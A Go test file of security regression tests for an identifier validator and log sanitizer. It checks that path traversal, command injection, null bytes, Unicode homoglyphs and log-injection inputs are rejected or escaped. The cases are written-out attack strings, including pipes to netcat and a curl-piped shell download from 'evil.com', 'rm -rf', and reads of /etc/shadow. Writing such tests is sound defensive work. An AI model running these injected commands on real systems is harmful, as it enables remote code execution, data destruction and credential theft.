package validate

import (
	"strings"
	"testing"
)

// Security regression tests for input sanitization. These verify:
// 1. Path traversal attacks - malicious path sequences rejected
// 2. Command injection - shell metacharacters rejected
// 3. Log injection - control characters sanitized for logging
// 4. Unicode attacks - homoglyphs and non-ASCII rejected for identifiers
// 5. Null byte injection - null bytes rejected

func TestSecurityRegression_PathTraversalPrevention(t *testing.T) {
	pathTraversalAttempts := []struct {
		name        string
		identifier  string
		description string
	}{
		{name: "etc_passwd", identifier: "../../../etc/passwd", description: "classic path traversal to /etc/passwd"},
		{name: "windows_style", identifier: "..\\..\\..\\windows\\system32\\config\\sam", description: "Windows-style path traversal"},
		{name: "middle_traversal", identifier: "Modules/../../secrets/api-key", description: "traversal in middle of legitimate-looking name"},
		{name: "double_slash", identifier: "Modules//payments//production", description: "double slash path manipulation"},
		{name: "current_dir", identifier: "./sensitive/file", description: "current directory reference"},
		{name: "hidden_dir", identifier: "/.hidden/secrets", description: "hidden directory access"},
		{name: "mixed_separators", identifier: "../..\\../etc/passwd", description: "mixed Unix/Windows separators"},
	}

	for _, tc := range pathTraversalAttempts {
		t.Run(tc.name, func(t *testing.T) {
			if err := ValidateIdentifier(tc.identifier); err == nil {
				t.Errorf("SECURITY VIOLATION: Path traversal attack not blocked: %s (%s)", tc.identifier, tc.description)
			}
		})
	}
}

func TestSecurityRegression_CommandInjectionPrevention(t *testing.T) {
	injectionAttempts := []struct {
		name        string
		identifier  string
		description string
	}{
		{name: "semicolon_rm", identifier: "module;rm -rf /", description: "semicolon command separator"},
		{name: "backtick_whoami", identifier: "module`whoami`", description: "backtick command substitution"},
		{name: "dollar_paren", identifier: "module$(cat /etc/passwd)", description: "dollar-paren command substitution"},
		{name: "pipe", identifier: "module|nc evil.com 1234", description: "pipe to netcat"},
		{name: "ampersand_bg", identifier: "module&curl evil.com/shell.sh|sh", description: "background process with shell download"},
		{name: "and_chain", identifier: "module&&rm -rf ~", description: "AND chain command execution"},
		{name: "or_chain", identifier: "module||wget evil.com/mal", description: "OR chain command execution"},
		{name: "redirect_out", identifier: "module>/etc/crontab", description: "redirect stdout to crontab"},
		{name: "redirect_in", identifier: "module</etc/shadow", description: "redirect from shadow file"},
		{name: "env_expansion", identifier: "module$HOME", description: "environment variable expansion"},
		{name: "env_brace", identifier: "module${PATH}", description: "brace-style environment variable"},
		{name: "newline_injection", identifier: "module\n/bin/sh", description: "newline with shell command"},
	}

	for _, tc := range injectionAttempts {
		t.Run(tc.name, func(t *testing.T) {
			if err := ValidateIdentifier(tc.identifier); err == nil {
				t.Errorf("SECURITY VIOLATION: Command injection not blocked: %q (%s)", tc.identifier, tc.description)
			}
		})
	}
}

func TestSecurityRegression_NullByteInjection(t *testing.T) {
	nullByteAttempts := []struct {
		name        string
		identifier  string
		description string
	}{
		{name: "middle_null", identifier: "module\x00admin", description: "null byte in middle to truncate in C code"},
		{name: "prefix_null", identifier: "\x00/etc/passwd", description: "null byte prefix"},
		{name: "suffix_null", identifier: "module\x00", description: "null byte suffix"},
		{name: "multiple_null", identifier: "a\x00b\x00c", description: "multiple null bytes"},
	}

	for _, tc := range nullByteAttempts {
		t.Run(tc.name, func(t *testing.T) {
			err := ValidateIdentifier(tc.identifier)
			if err == nil {
				t.Errorf("SECURITY VIOLATION: Null byte injection not blocked: %q (%s)", tc.identifier, tc.description)
			}
			if err != nil && err != ErrIdentifierNullByte && err != ErrIdentifierControlChars {
				t.Logf("Blocked with: %v (acceptable)", err)
			}
		})
	}
}

func TestSecurityRegression_UnicodeHomoglyphPrevention(t *testing.T) {
	homoglyphAttempts := []struct {
		name        string
		identifier  string
		description string
	}{
		{name: "cyrillic_a", identifier: "аdmin", description: "Cyrillic 'a' in 'admin'"},
		{name: "cyrillic_o", identifier: "rоot", description: "Cyrillic 'o' in 'root'"},
		{name: "greek_omicron", identifier: "rοot", description: "Greek omicron in 'root'"},
		{name: "fullwidth_latin", identifier: "ａdmin", description: "Fullwidth Latin 'a'"},
		{name: "latin_extended", identifier: "ādmin", description: "Latin Extended 'a' with macron"},
		{name: "zero_width_joiner", identifier: "ad‍min", description: "zero-width joiner between characters"},
		{name: "rtl_override", identifier: "admin‮nimda", description: "right-to-left override character"},
	}

	for _, tc := range homoglyphAttempts {
		t.Run(tc.name, func(t *testing.T) {
			if err := ValidateIdentifier(tc.identifier); err == nil {
				t.Errorf("SECURITY VIOLATION: Unicode homoglyph attack not blocked: %s (%s)", tc.identifier, tc.description)
			}
		})
	}
}

// TestSecurityRegression_LogInjectionSanitization verifies the security
// goal: control characters appear as visible unicode-escape sequences
// rather than being interpreted as actual control characters.
func TestSecurityRegression_LogInjectionSanitization(t *testing.T) {
	logInjectionAttempts := []struct {
		name           string
		input          string
		mustNotContain []rune
		mustContain    string
		description    string
	}{
		{name: "newline_injection", input: "user\n[ALERT] System compromised!", mustNotContain: []rune{'\n'}, mustContain: "\\u000a", description: "newline to inject fake log entry"},
		{name: "carriage_return", input: "user\rFake: success", mustNotContain: []rune{'\r'}, mustContain: "\\u000d", description: "carriage return for log line overwrite"},
		{name: "ansi_escape", input: "user\x1b[31mRED TEXT\x1b[0m", mustNotContain: []rune{'\x1b'}, mustContain: "\\u001b", description: "ANSI escape for terminal color injection"},
		{name: "json_injection", input: `user","admin":true,"other":"`, mustNotContain: []rune{}, mustContain: `\"`, description: "JSON structure injection"},
		{name: "null_byte_truncation", input: "safe\x00malicious", mustNotContain: []rune{'\x00'}, mustContain: "\\u0000", description: "null byte for log truncation"},
	}

	for _, tc := range logInjectionAttempts {
		t.Run(tc.name, func(t *testing.T) {
			sanitized := SanitizeForLog(tc.input, 200)

			for _, forbidden := range tc.mustNotContain {
				if strings.ContainsRune(sanitized, forbidden) {
					t.Errorf("SECURITY VIOLATION: Log injection not sanitized, contains raw control char %q: %s (%s)",
						forbidden, sanitized, tc.description)
				}
			}

			if tc.mustContain != "" && !strings.Contains(sanitized, tc.mustContain) {
				t.Errorf("Expected escape sequence %q not found in sanitized output: %s (%s)", tc.mustContain, sanitized, tc.description)
			}
		})
	}
}

func TestSecurityRegression_ControlCharacterPrevention(t *testing.T) {
	controlChars := []struct {
		name  string
		char  rune
		ascii int
		desc  string
	}{
		{"NUL", '\x00', 0, "null"}, {"SOH", '\x01', 1, "start of heading"}, {"STX", '\x02', 2, "start of text"},
		{"ETX", '\x03', 3, "end of text"}, {"EOT", '\x04', 4, "end of transmission"}, {"ENQ", '\x05', 5, "enquiry"},
		{"ACK", '\x06', 6, "acknowledge"}, {"BEL", '\x07', 7, "bell"}, {"BS", '\x08', 8, "backspace"},
		{"TAB", '\x09', 9, "horizontal tab"}, {"LF", '\x0a', 10, "line feed"}, {"VT", '\x0b', 11, "vertical tab"},
		{"FF", '\x0c', 12, "form feed"}, {"CR", '\x0d', 13, "carriage return"}, {"SO", '\x0e', 14, "shift out"},
		{"SI", '\x0f', 15, "shift in"}, {"DLE", '\x10', 16, "data link escape"}, {"DC1", '\x11', 17, "device control 1"},
		{"DC2", '\x12', 18, "device control 2"}, {"DC3", '\x13', 19, "device control 3"}, {"DC4", '\x14', 20, "device control 4"},
		{"NAK", '\x15', 21, "negative acknowledge"}, {"SYN", '\x16', 22, "synchronous idle"}, {"ETB", '\x17', 23, "end of block"},
		{"CAN", '\x18', 24, "cancel"}, {"EM", '\x19', 25, "end of medium"}, {"SUB", '\x1a', 26, "substitute"},
		{"ESC", '\x1b', 27, "escape"}, {"FS", '\x1c', 28, "file separator"}, {"GS", '\x1d', 29, "group separator"},
		{"RS", '\x1e', 30, "record separator"}, {"US", '\x1f', 31, "unit separator"}, {"DEL", '\x7f', 127, "delete"},
	}

	for _, tc := range controlChars {
		t.Run(tc.name, func(t *testing.T) {
			identifier := "test" + string(tc.char) + "module"

			if err := ValidateIdentifier(identifier); err == nil {
				t.Errorf("SECURITY VIOLATION: Control character %s (ASCII %d, %s) not rejected in identifier",
					tc.name, tc.ascii, tc.desc)
			}

			sanitized := SanitizeForLog(identifier, 100)
			if strings.ContainsRune(sanitized, tc.char) {
				t.Errorf("SECURITY VIOLATION: Control character %s (ASCII %d) not sanitized in log output", tc.name, tc.ascii)
			}
		})
	}
}

func TestSecurityRegression_LengthLimitEnforcement(t *testing.T) {
	t.Run("identifier_length", func(t *testing.T) {
		atLimit := strings.Repeat("a", MaxIdentifierLength)
		if err := ValidateIdentifier(atLimit); err != nil {
			t.Errorf("identifier at max length (%d) should be valid, got: %v", MaxIdentifierLength, err)
		}

		overLimit := strings.Repeat("a", MaxIdentifierLength+1)
		if err := ValidateIdentifier(overLimit); err == nil {
			t.Errorf("SECURITY VIOLATION: identifier over max length (%d) should be rejected", MaxIdentifierLength+1)
		}
	})

	t.Run("sanitize_truncation", func(t *testing.T) {
		longInput := strings.Repeat("x", 1000)
		sanitized := SanitizeForLog(longInput, 50)
		if len(sanitized) > 50 {
			t.Errorf("SECURITY VIOLATION: SanitizeForLog did not truncate, len=%d > maxLen=50", len(sanitized))
		}
	})
}

func TestSecurityRegression_ValidInputsAccepted(t *testing.T) {
	validIdentifiers := []struct {
		name       string
		identifier string
	}{
		{"simple", "production"},
		{"with_hyphen", "payments-core"},
		{"with_underscore", "payments_core"},
		{"module_name_with_spaces", "Dashboard Module"},
		{"semver", "1.4.2"},
		{"semver_prerelease", "2.0.0-rc.1"},
		{"semver_build_metadata", "2.0.0+build.7"},
		{"alphanumeric", "module123abc"},
		{"uppercase", "PRODUCTION"},
		{"mixed_case", "ProductionModule"},
	}

	for _, tc := range validIdentifiers {
		t.Run(tc.name, func(t *testing.T) {
			if err := ValidateIdentifier(tc.identifier); err != nil {
				t.Errorf("REGRESSION: Valid identifier %q rejected: %v", tc.identifier, err)
			}
		})
	}
}
